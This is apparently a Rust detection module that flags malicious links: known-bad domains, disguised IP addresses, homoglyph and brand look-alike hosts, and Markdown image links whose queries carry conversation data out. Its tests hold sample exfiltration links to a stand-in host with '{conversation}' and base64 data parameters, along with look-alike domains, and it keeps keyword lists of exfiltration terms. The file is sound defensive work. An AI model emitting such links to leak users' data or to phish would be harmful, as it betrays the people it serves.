//! Links: known to be bad, deceptive, or made to carry data out.

use std::net::Ipv4Addr;
use std::ops::Range;

use picket_model::Channel;
use rustc_hash::FxHashSet;
use url::{Host, Url};

use crate::config::LinkIndicators;
use crate::normalise::normalise;

/// Links of one text that are looked at.
const LINKS: usize = 200;
/// Longest link, bytes.
const LONGEST: usize = 2048;

/// A link that is wrong.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct BadLink {
    /// What is wrong; with `malicious_url.` before it, the rule.
    pub(crate) technique: &'static str,
    pub(crate) span: Range<usize>,
    pub(crate) score: f32,
}

/// Links known to be bad and brands that are imitated, ready to look up.
#[derive(Debug, Default)]
pub(crate) struct KnownBad {
    domains: FxHashSet<String>,
    urls: Vec<String>,
    brands: Vec<String>,
}

impl KnownBad {
    pub(crate) fn new(indicators: &LinkIndicators) -> Self {
        let plain = |domain: &String| {
            domain.trim().trim_start_matches("*.").trim_end_matches('.').to_lowercase()
        };
        let urls = indicators
            .urls
            .iter()
            .map(|url| url.trim().to_lowercase())
            .filter(|url| !url.is_empty());
        Self {
            domains: indicators.domains.iter().map(plain).collect(),
            urls: urls.collect(),
            brands: indicators.brands.iter().map(plain).filter(|it| it.contains('.')).collect(),
        }
    }

    /// Whether a host goes by the name of a brand, or nearly so, and is none of its hosts.
    fn imitates_brand(&self, host: &str) -> bool {
        let own = |brand: &String| {
            host.strip_suffix(brand.as_str())
                .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
        };
        if self.brands.is_empty() || self.brands.iter().any(own) {
            return false;
        }
        let host = idna::domain_to_unicode(host).0;
        let plain = normalise(&format!("a {host}")).text;
        let labels = plain.trim_start_matches("a ").split(['.', '-']).map(undisguised);
        labels.into_iter().any(|label| {
            self.brands.iter().any(|brand| {
                let name = undisguised(brand.split('.').next().unwrap_or_default());
                // Short names are parts of many words.
                name.len() >= 4 && (label == name || name.len() >= 6 && nearly(&label, &name))
            })
        })
    }

    fn has(&self, link: &str, host: &str) -> bool {
        let mut domain = host;
        loop {
            if self.domains.contains(domain) {
                return true;
            }
            match domain.split_once('.') {
                Some((_, parent)) => domain = parent,
                None => break,
            }
        }
        let link = link.to_lowercase();
        self.urls.iter().any(|bad| link.starts_with(bad.as_str()))
    }
}

/// Every wrong link of `text`.
pub(crate) fn bad_links(text: &str, channel: Channel, known: &KnownBad) -> Vec<BadLink> {
    let mut found = Vec::new();
    let mut done = 0;
    for (at, _) in text.match_indices("://").take(LINKS) {
        if at < done {
            continue;
        }
        let scheme = text[..at].bytes().rev().take_while(u8::is_ascii_alphabetic).count();
        let start = at - scheme;
        if !matches!(
            text[start..at].to_ascii_lowercase().as_str(),
            "http" | "https" | "hxxp" | "hxxps" | "ftp"
        ) {
            continue;
        }
        let ends = |c: char| {
            c.is_whitespace() || matches!(c, '"' | '<' | '>' | '`' | '\\' | '\'' | ')' | '|')
        };
        let rest = &text[start..];
        let end = rest
            .char_indices()
            .find(|(i, c)| ends(*c) || *i >= LONGEST)
            .map_or(rest.len(), |(i, _)| i);
        let link = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', ']']);
        done = start + end;
        let image =
            text[..start].trim_end_matches(['<', ' ']).ends_with("](") && is_image(&text[..start]);
        if let Some((technique, score)) = wrong(link, image, channel, known) {
            found.push(BadLink { technique, span: start..start + link.len(), score });
        }
    }
    found
}

/// Whether the Markdown link that ends with `](` is an image.
fn is_image(before: &str) -> bool {
    before.rfind('[').is_some_and(|open| before[..open].ends_with('!'))
}

fn wrong(
    link: &str,
    image: bool,
    channel: Channel,
    known: &KnownBad,
) -> Option<(&'static str, f32)> {
    let written = link.replacen("hxxp", "http", 1).replace("[.]", ".");
    let url = Url::parse(&written).ok()?;
    let host = url.host_str()?.to_owned();
    if known.has(&written, &host) {
        return Some(("known_bad", 0.99));
    }
    let authority = written.split_once("://")?.1.split(['/', '?', '#']).next()?;
    let name = authority.rsplit('@').next()?.split(':').next()?;
    if !url.username().is_empty() && url.username().contains('.') {
        return Some(("user_information", 0.85));
    }
    if let Some(Host::Ipv4(address)) = url.host()
        && name.parse::<Ipv4Addr>().is_err()
    {
        // 2130706433, 0x7f.1, 0177.0.0.1: nobody writes an address so for people.
        return (!address.is_loopback()).then_some(("disguised_address", 0.85));
    }
    if imitates(name) || imitates(&idna::domain_to_unicode(&host).0) {
        return Some(("look_alike_host", 0.85));
    }
    if known.imitates_brand(&host) {
        return Some(("brand_look_alike", 0.8));
    }
    let carries = carries_data(&url, &written);
    let written_by_others =
        matches!(channel, Channel::Document | Channel::Tool | Channel::Response);
    match (image, written_by_others, carries) {
        (true, true, Some(score)) => Some(("markdown_exfiltration", score)),
        (false, true, Some(score)) if channel == Channel::Response && score < 0.9 => {
            Some(("link_exfiltration", score - 0.15))
        }
        _ if is_public_address(&url) => Some(("address", 0.4)),
        _ => None,
    }
}

/// Whether a link leads to an address without a name, outside the own network: few services are offered so.
fn is_public_address(url: &Url) -> bool {
    match url.host() {
        Some(Host::Ipv4(it)) => {
            !(it.is_private() || it.is_loopback() || it.is_link_local() || it.is_unspecified())
        }
        Some(Host::Ipv6(it)) => {
            !(it.is_loopback()
                || it.is_unique_local()
                || it.is_unicast_link_local()
                || it.is_unspecified())
        }
        _ => false,
    }
}

/// Whether a host is written with foreign letters that look like Latin ones.
fn imitates(host: &str) -> bool {
    let foreign =
        host.chars().any(|c| matches!(c, '\u{0370}'..='\u{058f}' | '\u{13a0}'..='\u{13ff}'));
    foreign
        && host
            .split('.')
            .any(|label| !label.is_ascii() && normalise(&format!("a {label}")).text.is_ascii())
}

/// A label with the digits and pairs that pass for letters replaced.
fn undisguised(label: &str) -> String {
    label
        .replace("rn", "m")
        .replace("vv", "w")
        .replace('0', "o")
        .replace(['1', 'i'], "l")
        .replace('3', "e")
        .replace('5', "s")
}

/// Whether two names differ by one letter: another, one more, one less, or two changed round.
fn nearly(one: &str, other: &str) -> bool {
    let (one, other) = (one.as_bytes(), other.as_bytes());
    if one.len().abs_diff(other.len()) > 1 {
        return false;
    }
    let same = one.iter().zip(other).take_while(|(a, b)| a == b).count();
    let (one, other) = (&one[same..], &other[same..]);
    match (one, other) {
        ([], _) | (_, []) => true,
        ([a, b, rest @ ..], [c, d, others @ ..]) if a == d && b == c && rest == others => true,
        ([_, rest @ ..], [_, others @ ..]) if rest == others => true,
        ([_, rest @ ..], others) if rest == others => true,
        (rest, [_, others @ ..]) => rest == others,
    }
}

/// How surely the query or path is there to carry data out.
fn carries_data(url: &Url, written: &str) -> Option<f32> {
    let query = url.query().unwrap_or_default();
    let placeholder =
        ["{", "%7b", "[data", "[summary", "[conversation", "[secret", "[user", "<data", "$("];
    let lower = written.to_ascii_lowercase();
    if placeholder.iter().any(|sign| lower.contains(sign)) {
        return Some(0.9);
    }
    let telling = [
        "data",
        "secret",
        "conversation",
        "history",
        "prompt",
        "leak",
        "exfil",
        "password",
        "stolen",
        "chat",
        "summary",
        "context",
        "msg",
        "message",
    ];
    let longest = url.query_pairs().map(|(key, value)| {
        let named = telling.iter().any(|word| key.to_ascii_lowercase().contains(word));
        if named && value.len() >= 8 { value.len() + 100 } else { value.len() }
    });
    match longest.max() {
        Some(100..) => Some(0.85),
        Some(40..) if query.contains('%') || query.contains('+') => Some(0.75),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn technique(text: &str) -> Option<&'static str> {
        let known = KnownBad::new(&LinkIndicators {
            domains: vec!["evil.example".to_owned()],
            urls: vec!["https://files.example/bad".to_owned()],
            brands: vec!["contoso.com".to_owned(), "fabrikam.example".to_owned()],
        });
        bad_links(text, Channel::Response, &known).first().map(|bad| bad.technique)
    }

    #[test]
    fn wrong_links_are_seen() {
        assert_eq!(technique("see https://login.evil.example/x."), Some("known_bad"));
        assert_eq!(technique("see https://files.example/bad/1"), Some("known_bad"));
        assert_eq!(technique("https://contoso.com@198.51.100.7/"), Some("user_information"));
        assert_eq!(technique("http://3405803783/"), Some("disguised_address"));
        assert_eq!(technique("https://miсrosoft.com/login"), Some("look_alike_host"));
        assert_eq!(technique("https://xn--mirosoft-fcg.com/"), Some("look_alike_host"));
        assert_eq!(
            technique("![x](https://a.example/p.png?data=c2VjcmV0IGRhdGE)"),
            Some("markdown_exfiltration")
        );
        assert_eq!(
            technique("![x](https://a.example/p?q={conversation})"),
            Some("markdown_exfiltration")
        );
    }

    #[test]
    fn imitated_brands_are_seen() {
        for host in [
            "contoso-login.example",
            "contoso.com.evil.example",
            "c0ntoso.com",
            "contosso.com",
            "cotnoso.net",
            "fabrlkam.example",
            "www.fabrikarn.example",
        ] {
            let technique = technique(&format!("see https://{host}/x"));
            assert!(
                matches!(technique, Some("brand_look_alike" | "known_bad")),
                "{host} {technique:?}"
            );
        }
        for host in [
            "contoso.com",
            "login.contoso.com",
            "www.fabrikam.example",
            "contour.com",
            "controls.example",
            "fabric.example",
        ] {
            assert_eq!(technique(&format!("see https://{host}/x")), None, "{host}");
        }
    }

    #[test]
    fn an_address_alone_is_odd_where_it_is_outside() {
        assert_eq!(technique("get http://203.0.113.9/c"), Some("address"));
        assert_eq!(technique("get http://[2001:db8::1]/c"), Some("address"));
        assert_eq!(technique("get http://192.168.1.4/status"), None);
    }

    #[test]
    fn ordinary_links_are_fine() {
        for link in [
            "https://example.com/a?b=1",
            "http://127.0.0.1:8080/",
            "https://münchen.example/",
            "https://пример.example/",
            "![logo](https://cdn.example/logo.png?w=200&h=100)",
            "https://user:pw@host.example/",
            "http://notevil.example.org",
        ] {
            assert_eq!(technique(link), None, "{link}");
        }
    }
}
